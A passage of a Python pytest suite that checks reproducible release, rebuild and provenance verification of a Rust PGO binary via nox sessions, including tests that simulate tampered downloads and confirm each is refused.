"""``nox -s release`` and ``nox -s rebuild`` on the hello fixture, in a temporary git repository with tags:
the artefacts, their byte-for-byte rebuild from the published profile in another directory, and every refusal."""

from __future__ import annotations

import gzip
import io
import json
import os
import shutil
import subprocess
import tarfile
from collections.abc import Mapping
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import pytest

from recipes.release.reproducible import (
    binary_diff,
    binary_tarball,
    parse_sha256sums,
    sha256_bytes,
    sha256sums_text,
    tar_member,
)
from recipes.store import sha256_file
from tests.conftest import FIXTURES, REPO, assert_ok, assert_refused, clean_env, output, run_nox

pytestmark = pytest.mark.slow

TAG = "v1.0.0"
TRIPLE = "x86_64-unknown-linux-gnu"
BASE = f"hello-pgo-{TAG}-{TRIPLE}"


def git(repo: Path, *args: str) -> str:
    env = clean_env({"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.org", "LC_ALL": "C"})
    env.update({"GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@example.org"})
    env.update({"GIT_AUTHOR_DATE": "2026-03-04T05:06:07Z", "GIT_COMMITTER_DATE": "2026-03-04T05:06:07Z"})
    done = subprocess.run(["git", "-C", str(repo), *args], env=env, capture_output=True, text=True, check=True)
    return done.stdout.strip()


def make_repo(root: Path, tags: tuple[str, ...] = (TAG,)) -> Path:
    """A git repository with a copy of the hello crate and its workload, tagged."""
    repo = root / "repo"
    shutil.copytree(FIXTURES / "hello", repo / "hello", ignore=shutil.ignore_patterns("target"))
    (repo / "profiles").mkdir()
    shutil.copy(REPO / "profiles" / "hello.toml", repo / "profiles" / "hello.toml")
    (repo / ".gitignore").write_text("/dist/\n**/target/\n")
    git(repo.parent, "init", "-q", "-b", "main", str(repo))
    git(repo, "add", ".")
    git(repo, "commit", "-q", "-m", "hello")
    for tag in tags:
        git(repo, "tag", "-a", tag, "-m", tag)
    return repo


@dataclass(frozen=True)
class Release:
    root: Path
    repo: Path
    dist: Path
    work: Path
    store: Path
    text: str

    @classmethod
    def new(cls, root: Path) -> Release:
        """A tagged repository of hello under ``root``, whose release goes to its dist/<tag>/."""
        repo = make_repo(root)
        return cls(root, repo, repo / "dist" / TAG, root / "work", root / "store", "")

    def made(self, *posargs: str, **env: str) -> Release:
        """This release written by ``nox -s release -- <tag> <posargs>``, what the session printed in ``text``."""
        return replace(self, text=assert_ok(run_nox("release", self.env(**env), [TAG, *posargs])))

    def env(self, **extra: str) -> dict[str, str]:
        return clean_env(
            {
                "PGO_MANIFEST": str(self.repo / "hello" / "Cargo.toml"),
                "PGO_WORKLOAD": "hello",
                "PGO_OUT": str(self.work),
                "PGO_PROFILE_STORE": str(self.store),
                **extra,
            }
        )

    def manifest(self) -> dict[str, Any]:
        data = json.loads((self.dist / f"{BASE}-manifest.json").read_text())
        assert isinstance(data, dict)
        return data

    def download(self, dest: Path) -> Path:
        """The release's files as a user downloads them, somewhere else."""
        shutil.copytree(self.dist, dest)
        return dest


@pytest.fixture(scope="module")
def released(tmp_path_factory: pytest.TempPathFactory) -> Release:
    return Release.new(tmp_path_factory.mktemp("release")).made()


def _binary(tarball: Path, top: str) -> bytes:
    return tar_member(tarball, f"{top}/hello-pgo")


def test_release_writes_the_artefacts_with_their_manifest_and_sums(released: Release, tmp_path: Path) -> None:
    dist = released.dist
    names = {p.name for p in dist.iterdir()}
    assert names == {
        f"{BASE}.tar.gz",
        f"{BASE}-pgo.tar.gz",
        f"{BASE}-pgo.profdata",
        f"{BASE}-manifest.json",
        *(f"{name}.intoto.json" for name in (f"{BASE}.tar.gz", f"{BASE}-pgo.tar.gz", f"{BASE}-pgo.profdata")),
        "SHA256SUMS",
    }
    subprocess.run(["sha256sum", "--check", "--strict", "SHA256SUMS"], cwd=dist, check=True, capture_output=True)
    assert len((dist / "SHA256SUMS").read_text().splitlines()) == 7
    manifest = released.manifest()
    assert manifest["commit"] == git(released.repo, "rev-parse", f"{TAG}^{{commit}}")
    assert (
        manifest["commit_time"]
        == manifest["source_date_epoch"]
        == int(git(released.repo, "show", "-s", "--format=%ct"))
    )
    assert (
        manifest["toolchain"]["rustc_vV"]
        == subprocess.run(["rustc", "-vV"], capture_output=True, text=True, check=True).stdout
    )
    assert manifest["toolchain"]["cargo"].startswith("cargo 1.")
    assert "LLVM 22" in manifest["toolchain"]["llvm_profdata"]
    assert manifest["target"] == TRIPLE
    assert manifest["manifest_path"] == "hello/Cargo.toml"
    assert manifest["workload"] == "profiles/hello.toml"
    assert manifest["cargo_command"] == ["cargo", "build"]
    assert "--manifest-path" in manifest["cargo_argv"] and "hello/Cargo.toml" in manifest["cargo_argv"]
    assert manifest["rustflags"] == []  # the flags without the profile (and without the machine's remaps)
    assert {dest for _, dest in manifest["remap_path_prefix"]} >= {"/build/src", "/build/work", "/cargo"}
    assert manifest["profile_sha256"] == sha256_file(dist / f"{BASE}-pgo.profdata")
    store_path = Path(manifest["profile_store_path"])
    assert store_path == released.store / f"{manifest['profile_sha256']}.profdata"
    # the profile is the only difference between the two builds: the same rustc lines but for it
    logs = released.work / "logs"
    plain_line = next(
        ln for ln in (logs / "plain-build.log").read_text().splitlines() if "--crate-name hello_pgo" in ln
    )
    pgo_line = next(
        ln for ln in (logs / "optimise-build.log").read_text().splitlines() if "--crate-name hello_pgo" in ln
    )
    assert f"--remap-path-prefix={released.repo}=/build/src" in plain_line
    assert f"-Cprofile-use={store_path}" in pgo_line and "profile-use" not in plain_line
    assert manifest["pgo_build"]["stale_profile_warnings"] == 0
    # both artefacts need the same glibc (the release checks it), and the manifest says which
    assert manifest["max_glibc"] == manifest["pgo_build"]["max_glibc"] is not None
    # both ran under an emulated SSE2-only CPU, with the arguments of the workload's first command phase
    assert manifest["cpu_baseline"]["run"] == ["collatz", "3000"]
    assert (manifest["cpu_baseline"]["plain"], manifest["cpu_baseline"]["pgo"]) == ("passed", "passed")
    assert (released.work / "cpu-baseline" / "pgo").is_dir()

    # the tarballs: owner 0, the commit's time, names sorted; the binaries stripped, different, both working
    for name, top in ((f"{BASE}.tar.gz", BASE), (f"{BASE}-pgo.tar.gz", f"{BASE}-pgo")):
        raw = (dist / name).read_bytes()
        assert raw[4:8] == b"\0\0\0\0"
        with tarfile.open(dist / name) as tar:
            members = tar.getmembers()
        assert [m.name for m in members] == [top, f"{top}/hello-pgo"]
        assert {(m.uid, m.gid, m.mtime) for m in members} == {(0, 0, manifest["source_date_epoch"])}
    plain, pgo = _binary(dist / f"{BASE}.tar.gz", BASE), _binary(dist / f"{BASE}-pgo.tar.gz", f"{BASE}-pgo")
    assert sha256_bytes(pgo) == manifest["artefacts"]["pgo"]["binary_sha256"]
    assert plain != pgo
    for label, data in (("plain", plain), ("pgo", pgo)):
        path = tmp_path / label
        path.write_bytes(data)
        path.chmod(0o755)
        assert (
            subprocess.run([path, "primes", "100"], capture_output=True, text=True, check=True).stdout.strip()
            == "primes: 25"
        )
        symbols = subprocess.run(["nm", path], capture_output=True, text=True, check=False)
        assert "no symbols" in symbols.stderr, "stripped"
        # no path of the build machine in the binary
        strings = subprocess.run(["strings", "-n", "6", path], capture_output=True, text=True, check=True).stdout
        for machine_path in (str(released.root), str(Path.home()), "/tmp/"):
            assert machine_path not in strings, (label, machine_path)
    diff = binary_diff(tmp_path / "plain", tmp_path / "pgo")
    assert diff.differing_bytes > 0 and ".text" in diff.sections


def test_release_writes_a_provenance_statement_per_artefact(released: Release, tmp_path: Path) -> None:
    """<artefact>.intoto.json: an in-toto Statement v1 whose subjects are the artefact and the binary in it;
    ``nox -s verify`` checks them (tests/unit/test_provenance.py: every refusal of verify)."""
    dist, manifest = released.dist, released.manifest()
    sums = parse_sha256sums((dist / "SHA256SUMS").read_text())
    for kind, top in (("plain", BASE), ("pgo", f"{BASE}-pgo"), ("profile", None)):
        artefact = dist / manifest["artefacts"][kind]["file"]
        name = f"{artefact.name}.intoto.json"
        statement = json.loads((dist / name).read_text())
        assert sums[name] == sha256_file(dist / name)
        assert statement["_type"] == "https://in-toto.io/Statement/v1"
        assert statement["predicateType"] == "https://slsa.dev/provenance/v1"
        subjects = {s["name"]: s["digest"]["sha256"] for s in statement["subject"]}
        assert subjects.pop(artefact.name) == sha256_file(artefact) == sums[artefact.name]
        assert subjects == ({f"{top}/hello-pgo": sha256_bytes(_binary(artefact, top))} if top else {})
        definition = statement["predicate"]["buildDefinition"]
        assert definition["externalParameters"]["tag"] == TAG
        assert definition["externalParameters"]["target"] == manifest["target"] == TRIPLE
        assert definition["internalParameters"]["rustflags"] == manifest["rustflags"]
        deps = {d["name"]: d for d in definition["resolvedDependencies"]}
        assert deps["source"]["digest"]["gitCommit"] == git(released.repo, "rev-parse", f"{TAG}^{{commit}}")
        rustc_vv = subprocess.run(["rustc", "-vV"], capture_output=True, text=True, check=True).stdout
        assert f"commit-hash: {deps['rustc']['digest']['gitCommit']}" in rustc_vv
        lock = released.repo / "hello" / "Cargo.lock"
        assert deps["hello/Cargo.lock"]["digest"]["sha256"] == sha256_file(lock)
        (profile,) = statement["predicate"]["runDetails"]["byproducts"]
        assert profile["digest"]["sha256"] == sha256_file(dist / f"{BASE}-pgo.profdata")
    text = assert_ok(run_nox("verify", released.env(), [TAG]))
    assert f"verified {TAG}: 7 files, 3 provenance statements" in text and "ok  hello/Cargo.lock is the tag's" in text
    assert "rebuilt" not in text
    text = assert_ok(run_nox("verify", released.env(PGO_OUT=str(tmp_path / "work")), [TAG, "--rebuild"]))
    pgo = manifest["artefacts"]["pgo"]
    assert f"verified {TAG}" in text and f"match     {pgo['file']}  rebuilt {pgo['sha256']}" in text
    download = released.download(tmp_path / "download")
    (download / f"{BASE}-pgo.profdata").write_bytes(b"another profile")
    proc = run_nox("verify", released.env(), [TAG, "--artefacts", str(download)])
    assert_refused(proc, f"{BASE}-pgo.profdata has sha256", "SHA256SUMS says")


def _resum(dist: Path) -> None:
    """SHA256SUMS made again from the files as they are: a tampering that keeps the sums consistent."""
    sums = {p.name: sha256_file(p) for p in dist.iterdir() if p.name != "SHA256SUMS"}
    (dist / "SHA256SUMS").write_text(sha256sums_text(sums))


@pytest.mark.refuses(
    "verify-artefact-sha256-not-manifest",
    "verify-provenance-statement-missing",
    "verify-statement-parameter-not-manifest",
)
def test_verify_refuses_a_tampered_release(released: Release, tmp_path: Path) -> None:
    """The real release's files through ``nox -s verify``: a changed byte in an artefact, a changed parameter in a
    statement and a missing statement are each one line, with the sums made consistent again each time."""
    pgo_tarball = f"{BASE}-pgo.tar.gz"
    download = released.download(tmp_path / "byte")
    data = bytearray((download / pgo_tarball).read_bytes())
    data[len(data) // 2] ^= 1
    (download / pgo_tarball).write_bytes(bytes(data))
    _resum(download)
    proc = run_nox("verify", released.env(), [TAG, "--artefacts", str(download)])
    assert_refused(proc, f"{pgo_tarball} has sha256", "the manifest records")

    download = released.download(tmp_path / "parameter")
    statement = download / f"{BASE}.tar.gz.intoto.json"
    data_json = json.loads(statement.read_text())
    data_json["predicate"]["buildDefinition"]["externalParameters"]["target"] = "aarch64-unknown-linux-gnu"
    statement.write_text(json.dumps(data_json))
    _resum(download)
    proc = run_nox("verify", released.env(), [TAG, "--artefacts", str(download)])
    assert_refused(proc, f"{statement.name}: predicate.buildDefinition.externalParameters.target is")

    download = released.download(tmp_path / "missing")
    (download / f"{pgo_tarball}.intoto.json").unlink()
    _resum(download)
    proc = run_nox("verify", released.env(), [TAG, "--artefacts", str(download)])
    assert_refused(proc, f"the provenance statement {pgo_tarball}.intoto.json is missing")


def test_rebuild_in_another_directory_gives_the_published_binary(released: Release, tmp_path: Path) -> None:
    download = released.download(tmp_path / "download")
    shutil.rmtree(released.store)  # the rebuild has only the published files
    proc = run_nox("rebuild", released.env(PGO_OUT=str(tmp_path / "work")), [TAG, "--artefacts", str(download)])
    text = assert_ok(proc)
    manifest = released.manifest()
    pgo = manifest["artefacts"]["pgo"]
    assert f"match     {pgo['file']}  rebuilt {pgo['sha256']}" in text
    assert f"match     {pgo['binary']}  rebuilt {pgo['binary_sha256']}" in text
    assert "mismatch" not in text
    rebuilt = tmp_path / "work" / "rebuild" / TAG / "stripped" / "hello-pgo"
    assert sha256_file(rebuilt) == pgo["binary_sha256"]
    report = json.loads((tmp_path / "work" / "rebuild" / TAG / "report.json").read_text())
    # the store path depends only on the profile's content: the rebuild read it where the release did
    assert report["optimise"]["store_path"] == manifest["profile_store_path"]
    assert Path(manifest["profile_store_path"]).is_file()
    # built in a fresh worktree at another path, removed afterwards
    source = report["optimise"]["built_binary"]  # cargo's output; "binary" is the checked copy in the work dir
    assert not source.startswith(str(released.repo)) and "/src/hello/target/" in source
    assert not Path(source).exists()
    assert git(released.repo, "worktree", "list").count("\n") == 0


def _with_the_plain_binary_as_pgo(released: Release, tmp_path: Path) -> Path:
    """A download whose PGO tarball holds the plain binary, its manifest and SHA256SUMS made to agree."""
    download = released.download(tmp_path / "download")
    manifest = released.manifest()
    pgo = manifest["artefacts"]["pgo"]
    other = _binary(download / f"{BASE}.tar.gz", BASE)  # the plain binary, in the PGO tarball
    tarball = binary_tarball("hello-pgo", other, f"{BASE}-pgo", manifest["source_date_epoch"])
    (download / pgo["file"]).write_bytes(tarball)
    pgo["binary_sha256"], pgo["sha256"] = sha256_bytes(other), sha256_bytes(tarball)
    (download / f"{BASE}-manifest.json").write_text(json.dumps(manifest, indent=2, sort_keys=True) + "\n")
    sums = {p.name: sha256_file(p) for p in download.iterdir() if p.name != "SHA256SUMS"}
    (download / "SHA256SUMS").write_text(sha256sums_text(sums))
    return download


@pytest.mark.refuses("rebuild-rebuilt-binary-differs-from-published-one")
def test_rebuild_says_where_the_binaries_differ(released: Release, tmp_path: Path) -> None:
    """A release whose PGO tarball holds another binary (consistent sums): mismatch, bytes and sections."""
    download = _with_the_plain_binary_as_pgo(released, tmp_path)
    pgo = json.loads((download / f"{BASE}-manifest.json").read_text())["artefacts"]["pgo"]
    proc = run_nox("rebuild", released.env(PGO_OUT=str(tmp_path / "work")), [TAG, "--artefacts", str(download)])
    line = assert_refused(proc, "differs from the published one", "bytes differ", ".text")
    assert f"mismatch  {pgo['binary']}" in output(proc), line


@pytest.mark.refuses("rebuild-rebuilt-binary-differs-from-published-one")
@pytest.mark.skipif(
    shutil.which("diffoscope") is None, reason="diffoscope is not installed (apt-get install diffoscope-minimal)"
)
def test_rebuild_mismatch_explained_by_diffoscope(released: Release, tmp_path: Path) -> None:
    """The same mismatch: diffoscope's whole report beside the two binaries, a screen of it in the output."""
    download = _with_the_plain_binary_as_pgo(released, tmp_path)
    work = tmp_path / "work" / "rebuild" / TAG
    proc = run_nox("rebuild", released.env(PGO_OUT=str(tmp_path / "work")), [TAG, "--artefacts", str(download)])
    line = assert_refused(proc, "differs from the published one", f"diffoscope's report: {work / 'diffoscope.txt'}")
    text = (work / "diffoscope.txt").read_text()
    assert text.startswith(f"--- {work / 'published' / 'hello-pgo'}\n+++ {work / 'stripped' / 'hello-pgo'}\n")
    assert "├── objdump --line-numbers --disassemble" in text and "Max text output size reached." not in text
    # the screen: a count, the sections diffoscope names, its headings; no more than 30 lines of it
    screen = [ln.removeprefix("pgo: ") for ln in output(proc).splitlines() if ln.startswith("pgo: ")]
    start = next(i for i, ln in enumerate(screen) if ln.startswith("diffoscope: "))
    assert f"lines ({work / 'diffoscope.txt'})" in screen[start]
    sections = screen[start + 1].removeprefix("  sections: ").split(", ")
    assert ".text" in sections and ".rodata" in sections, screen[start + 1]
    assert "  objdump --line-numbers --disassemble --demangle --reloc --no-show-raw-insn --section=.text" in screen
    report = json.loads((work / "report.json").read_text())["rebuild"]
    assert report["diffoscope"]["report"] == str(work / "diffoscope.txt"), line
    summary = report["diffoscope"]["summary"]
    assert 3 <= len(summary) <= 30 and screen[start : start + len(summary)] == summary


@pytest.mark.refuses("determinism-two-builds-from-one-profile-differ")
@pytest.mark.skipif(
    shutil.which("diffoscope") is None, reason="diffoscope is not installed (apt-get install diffoscope-minimal)"
)
def test_determinism_mismatch_explained_by_diffoscope(tmp_path: Path) -> None:
    """A build script that writes the time into the binary: the two builds of determinism differ, and the
    refusal comes with diffoscope's report in <work>/determinism/ and its screen."""
    repo = make_repo(tmp_path, tags=())
    crate = repo / "hello"
    (crate / "build.rs").write_text(
        "use std::time::{SystemTime, UNIX_EPOCH};\n"
        "fn main() {\n"
        "    let nanos = SystemTime::now().duration_since(UNIX_EPOCH).unwrap().as_nanos();\n"
        '    let out = std::env::var("OUT_DIR").unwrap();\n'
        '    std::fs::write(format!("{out}/stamp.rs"), format!("const STAMP: u128 = {nanos};")).unwrap();\n'
        "}\n"
    )
    source = crate / "src" / "main.rs"
    text = source.read_text()
    assert "fn main() -> ExitCode {" in text
    source.write_text(
        text.replace(
            "fn main() -> ExitCode {",
            'include!(concat!(env!("OUT_DIR"), "/stamp.rs"));\n\n'
            "fn main() -> ExitCode {\n"
            "    if env::args().count() > 9 {\n"
            '        println!("built at {STAMP}");\n'
            "    }",
        )
    )
    git(repo, "add", ".")
    git(repo, "commit", "-q", "-m", "a build time in the binary")
    work = tmp_path / "work"
    env = Release(tmp_path, repo, repo / "dist", work, tmp_path / "store", "").env()
    assert_ok(run_nox("pgo", env))
    proc = run_nox("determinism", env)
    report_path = work / "determinism" / "diffoscope.txt"
    line = assert_refused(proc, "two builds from one profile", "bytes differ", f"diffoscope's report: {report_path}")
    first, second = (work / "determinism" / n / "stripped" / "hello-pgo" for n in ("first", "second"))
    assert report_path.read_text().startswith(f"--- {first}\n+++ {second}\n")
    screen = [ln.removeprefix("pgo: ") for ln in output(proc).splitlines() if ln.startswith("pgo: ")]
    start = next(i for i, ln in enumerate(screen) if ln.startswith("diffoscope: "))
    assert screen[start].endswith(f"lines ({report_path})")
    assert ".rodata" in screen[start + 1].removeprefix("  sections: ").split(", "), screen[start + 1]
    result = json.loads((work / "report.json").read_text())["determinism"]
    assert result["identical"] is False and result["diffoscope"]["report"] == str(report_path), line


# --- refusals ------------------------------------------------------------------------------------


@pytest.mark.refuses("no-release-tag-given", "tag-not-vx-y-z")
def test_release_without_or_with_an_ill_formed_tag_refused(released: Release) -> None:
    assert_refused(run_nox("release", released.env()), "needs a release tag first")
    assert_refused(run_nox("release", released.env(), ["1.0.0"]), "'1.0.0' is not a release tag", "vX.Y.Z")
    assert_refused(run_nox("rebuild", released.env(), ["--artefacts", "x"]), "needs a release tag first")


@pytest.mark.refuses("tag-does-not-exist")
@pytest.mark.parametrize("session", ["release", "rebuild"])
def test_tag_that_does_not_exist_refused(released: Release, session: str) -> None:
    assert_refused(run_nox(session, released.env(), ["v9.9.9"]), "tag v9.9.9 does not exist", str(released.repo))


@pytest.mark.refuses("worktree-dirty")
def test_release_of_a_dirty_worktree_refused(tmp_path: Path) -> None:
    repo = make_repo(tmp_path)
    env = Release(tmp_path, repo, repo / "dist", tmp_path / "work", tmp_path / "store", "").env()
    source = repo / "hello" / "src" / "main.rs"
    source.write_text(source.read_text() + "\n// an edit\n")
    assert_refused(run_nox("release", env, [TAG]), "is dirty", "hello/src/main.rs")
    assert not (tmp_path / "work").exists()


@pytest.mark.refuses("determinism-profile-gone")
def test_determinism_without_its_profile_refused(tmp_path: Path) -> None:
    repo = make_repo(tmp_path)
    missing = tmp_path / "moved.profdata"
    env = Release(tmp_path, repo, repo / "dist", tmp_path / "work", tmp_path / "store", "").env(
        PGO_PROFDATA=str(missing)
    )
    assert_refused(run_nox("determinism", env), f"the profile {missing} is gone", "run `nox -s pgo` first")
    assert not (tmp_path / "work" / "determinism").exists()


@pytest.mark.refuses("cpu-baseline-command-dies-sigill-under-baseline")
def test_release_of_a_binary_that_needs_a_newer_cpu_refused(tmp_path: Path) -> None:
    """Built for x86-64-v3, the artefacts die with SIGILL under the emulated baseline CPU: no release."""
    repo = make_repo(tmp_path)
    release = Release(tmp_path, repo, repo / "dist" / TAG, tmp_path / "work", tmp_path / "store", "")
    env = release.env(CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUSTFLAGS="-Ctarget-cpu=x86-64-v3")
    assert_refused(run_nox("release", env, [TAG]), "SIGILL")
    assert not release.dist.exists()


@pytest.mark.refuses("head-not-tag")
def test_release_of_another_commit_than_the_tag_refused(tmp_path: Path) -> None:
    repo = make_repo(tmp_path)
    (repo / "NOTES").write_text("after the tag\n")
    git(repo, "add", "NOTES")
    git(repo, "commit", "-q", "-m", "later")
    env = Release(tmp_path, repo, repo / "dist", tmp_path / "work", tmp_path / "store", "").env()
    assert_refused(run_nox("release", env, [TAG]), f"not {TAG}", f"git checkout {TAG}")


@pytest.mark.refuses("release-directory-already-exists")
def test_release_over_existing_artefacts_refused(released: Release) -> None:
    assert_refused(run_nox("release", released.env(), [TAG]), "already exists", str(released.dist))


def _rebuild(
    released: Release, download: Path, env: Mapping[str, str] | None = None
) -> subprocess.CompletedProcess[str]:
    return run_nox(
        "rebuild", env or released.env(PGO_OUT=str(download.parent / "w")), [TAG, "--artefacts", str(download)]
    )


@pytest.mark.refuses("rebuild-release-file-missing", "rebuild-no-artefacts-tag")
def test_rebuild_with_an_artefact_missing_refused(released: Release, tmp_path: Path) -> None:
    download = released.download(tmp_path / "download")
    (download / f"{BASE}-pgo.tar.gz").unlink()
    assert_refused(_rebuild(released, download), f"{BASE}-pgo.tar.gz is missing")
    assert_refused(_rebuild(released, tmp_path / "nowhere"), f"no artefacts of {TAG}", "--artefacts")


@pytest.mark.refuses("rebuild-sha256sums-has-no-line-for-file")
def test_rebuild_with_a_sha256sums_line_missing_refused(released: Release, tmp_path: Path) -> None:
    download = released.download(tmp_path / "download")
    sums = download / "SHA256SUMS"
    sums.write_text("".join(ln for ln in sums.read_text().splitlines(True) if "profdata" not in ln))
    assert_refused(_rebuild(released, download), f"SHA256SUMS has no line for {BASE}-pgo.profdata")


@pytest.mark.refuses("rebuild-profile-not-manifest")
def test_rebuild_with_another_profile_refused(released: Release, tmp_path: Path) -> None:
    download = released.download(tmp_path / "download")
    profile = download / f"{BASE}-pgo.profdata"
    other = tmp_path / "other.profdata"  # a real profile, every count doubled
    subprocess.run(["llvm-profdata-22", "merge", f"--weighted-input=2,{profile}", "-o", str(other)], check=True)
    shutil.copy(other, profile)
    line = assert_refused(_rebuild(released, download), f"the profile {profile.name} has sha256", "manifest records")
    assert sha256_file(other) in line


@pytest.mark.refuses("rebuild-another-rustc-release")
def test_rebuild_with_another_rustc_refused(released: Release, tmp_path: Path) -> None:
    download = released.download(tmp_path / "download")
    wrapper = tmp_path / "rustc-1.94"
    wrapper.write_text(
        "#!/bin/sh\n"
        'if [ "$1" = -vV ]; then rustc -vV | sed "s/^release: .*/release: 1.94.0/"; exit; fi\n'
        'exec rustc "$@"\n'
    )
    wrapper.chmod(0o755)
    env = released.env(PGO_OUT=str(tmp_path / "w"), RUSTC=str(wrapper))
    line = assert_refused(_rebuild(released, download, env), "this is rustc 1.94.0", "built with rustc 1.95")
    assert "rustup toolchain install" in line
    assert not (tmp_path / "w" / "rebuild").exists(), "refused before anything was built"


@pytest.mark.refuses("rebuild-another-rustc-release")
def test_rebuild_with_another_toolchain_chosen_refused(released: Release, tmp_path: Path) -> None:
    """The rebuild's rustc resolved as the build's is: RUSTUP_TOOLCHAIN=1.94.0 (installed here) is that rustc."""
    download = released.download(tmp_path / "download")
    env = released.env(PGO_OUT=str(tmp_path / "w"), RUSTUP_TOOLCHAIN="1.94.0")
    assert_refused(_rebuild(released, download, env), "this is rustc 1.94.0", "built with rustc 1.95")
    assert not (tmp_path / "w" / "rebuild").exists(), "refused before anything was built"


def _edit_manifest(download: Path, **changes: Any) -> None:
    """Change the downloaded manifest and keep SHA256SUMS consistent with it."""
    path = download / f"{BASE}-manifest.json"
    manifest = json.loads(path.read_text())
    for dotted, value in changes.items():
        table = manifest
        *parents, key = dotted.split("__")
        for parent in parents:
            table = table[parent]
        table[key] = value
    path.write_text(json.dumps(manifest, indent=2, sort_keys=True) + "\n")
    sums = {p.name: sha256_file(p) for p in download.iterdir() if p.name != "SHA256SUMS"}
    (download / "SHA256SUMS").write_text(sha256sums_text(sums))


@pytest.mark.refuses("rebuild-manifest-sha256-not-sha256sums")
def test_rebuild_with_an_edited_manifest_refused(released: Release, tmp_path: Path) -> None:
    download = released.download(tmp_path / "download")
    manifest = download / f"{BASE}-manifest.json"
    manifest.write_text(manifest.read_text().replace('"locked": false', '"locked": true'))
    assert_refused(_rebuild(released, download), f"{manifest.name} has sha256", "SHA256SUMS says")


@pytest.mark.refuses("rebuild-tag-moved")
def test_rebuild_of_a_moved_tag_refused(released: Release, tmp_path: Path) -> None:
    download = released.download(tmp_path / "download")
    _edit_manifest(download, commit="0" * 40)
    assert_refused(_rebuild(released, download), f"tag {TAG} is commit", "built from 000000000000", "tag was moved")


@pytest.mark.refuses("rebuild-another-cargo-release")
def test_rebuild_with_another_cargo_refused(released: Release, tmp_path: Path) -> None:
    download = released.download(tmp_path / "download")
    _edit_manifest(download, toolchain__cargo="cargo 1.94.0 (0000000 2026-01-01)")
    assert_refused(_rebuild(released, download), "this is cargo 1.", "built with cargo 1.94.0")


@pytest.mark.refuses("rebuild-other-base-rustflags-release")
def test_rebuild_with_other_base_rustflags_refused(released: Release, tmp_path: Path) -> None:
    download = released.download(tmp_path / "download")
    env = released.env(
        PGO_OUT=str(tmp_path / "w"), CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUSTFLAGS="-Cforce-frame-pointers=yes"
    )
    assert_refused(_rebuild(released, download, env), "-Cforce-frame-pointers=yes", "the release's were '(none)'")
    assert git(released.repo, "worktree", "list").count("\n") == 0, "the worktree is removed after a refusal too"


@pytest.mark.refuses("binary-contains-build-machine-path")
def test_release_of_a_binary_that_embeds_its_path_refused(tmp_path: Path) -> None:
    """``env!("CARGO_MANIFEST_DIR")`` is a string, not a path: no remap reaches it, the release must stop."""
    repo = make_repo(tmp_path, tags=())
    source = repo / "hello" / "src" / "main.rs"
    text = source.read_text()
    assert "fn main() -> ExitCode {" in text
    source.write_text(
        text.replace(
            "fn main() -> ExitCode {",
            "fn main() -> ExitCode {\n"
            "    if env::args().count() > 9 {\n"
            '        println!("{}", env!("CARGO_MANIFEST_DIR"));\n'
            "    }",
        )
    )
    git(repo, "commit", "-q", "-am", "print the source dir")
    git(repo, "tag", "-a", TAG, "-m", TAG)
    env = Release(tmp_path, repo, repo / "dist", tmp_path / "work", tmp_path / "store", "").env()
    assert_refused(run_nox("release", env, [TAG]), "binary still contains the build machine's path", str(repo))
    assert not (repo / "dist").exists()


def test_noxfile_lists_the_sessions() -> None:
    listing = subprocess.run(
        ["python3", "-m", "nox", "-f", str(REPO / "noxfile.py"), "-l"],
        capture_output=True,
        text=True,
        env={**os.environ},
        check=True,
    ).stdout
    for session in ("release", "rebuild", "determinism", "docs"):
        assert f"- {session} -> " in listing


#: ``cargo`` for PATH: the real cargo, but a ``cargo build`` without profile flags (release's plain build) gets
#: a cargo setting of its own, as a cargo config edited between the two builds would give it; cargo's crate
#: identity (``-C metadata``) hashes the profile's settings, so the plain build is another build
PLAIN_BUILD_DIFFERS = """#!/bin/sh
case " $* " in *" build "*) ;; *) exec {real} "$@";; esac
case "$CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUSTFLAGS" in *profile-*) exec {real} "$@";; esac
exec {real} "$@" --config profile.release.debug-assertions=true
"""


@pytest.mark.refuses("plain-pgo-build-disagree-crate-identity")
def test_release_whose_plain_build_is_another_build_refused(tmp_path: Path) -> None:
    repo = make_repo(tmp_path)
    release = Release(tmp_path, repo, repo / "dist" / TAG, tmp_path / "work", tmp_path / "store", "")
    wrapped = tmp_path / "wrapped"
    wrapped.mkdir()
    (wrapped / "cargo").write_text(PLAIN_BUILD_DIFFERS.format(real=shutil.which("cargo")))
    (wrapped / "cargo").chmod(0o755)
    env = release.env()
    env["PATH"] = f"{wrapped}:{env['PATH']}"
    line = assert_refused(run_nox("release", env, [TAG]), "the plain and the PGO build disagree on the crate identity")
    assert "plain-build.log and optimise-build.log" in line
    assert not release.dist.exists()


@pytest.mark.refuses("rebuild-another-commit-time-manifest")
def test_rebuild_with_another_commit_time_refused(released: Release, tmp_path: Path) -> None:
    download = released.download(tmp_path / "download")
    _edit_manifest(download, commit_time=released.manifest()["commit_time"] + 1)
    assert_refused(_rebuild(released, download), "has another commit time than the manifest records")


@pytest.mark.refuses("rebuild-binary-tarball-not-manifest")
def test_rebuild_of_a_tarball_whose_binary_is_not_the_manifests_refused(released: Release, tmp_path: Path) -> None:
    download = released.download(tmp_path / "download")
    _edit_manifest(download, artefacts__pgo__binary_sha256="0" * 64)
    pgo = released.manifest()["artefacts"]["pgo"]
    assert_refused(_rebuild(released, download), f"the binary in {pgo['file']} is not the one the manifest records")


@pytest.mark.refuses("rebuild-binaries-match-but-tarball-does-not")
def test_rebuild_whose_binary_matches_but_not_its_tarball_refused(released: Release, tmp_path: Path) -> None:
    """The published PGO tarball packed otherwise (its tar compressed at another gzip level: the members as the
    release writes them, another mtime is refused before the build), the same binary in it, every sum made to agree:
    the rebuilt binary matches, its tarball does not."""
    download = released.download(tmp_path / "download")
    manifest = released.manifest()
    pgo = manifest["artefacts"]["pgo"]
    tarball = gzip.compress(gzip.decompress((download / pgo["file"]).read_bytes()), compresslevel=1, mtime=0)
    (download / pgo["file"]).write_bytes(tarball)
    _edit_manifest(download, artefacts__pgo__sha256=sha256_bytes(tarball))
    line = assert_refused(_rebuild(released, download), "match the published ones but a tarball does not")
    assert f"does not: mismatch {pgo['file']} rebuilt " in line  # (the line's runs of spaces are one)
    assert f", published {sha256_bytes(tarball)}" in line


@pytest.mark.refuses("verify-rebuild-sha256sums-lists-file-release-does")
def test_verify_and_rebuild_refuse_an_extra_file_listed_in_sha256sums(released: Release, tmp_path: Path) -> None:
